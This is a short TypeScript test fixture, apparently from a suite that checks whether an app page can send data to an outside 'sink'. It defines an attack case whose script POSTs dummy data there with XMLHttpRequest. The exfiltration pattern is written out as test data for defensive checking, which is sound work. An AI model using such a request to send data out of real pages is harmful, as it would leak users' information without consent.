import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "XMLHttpRequest",
  script: `
    const asked = new XMLHttpRequest();
    asked.open("POST", sink);
    asked.send("x");
  `,
};
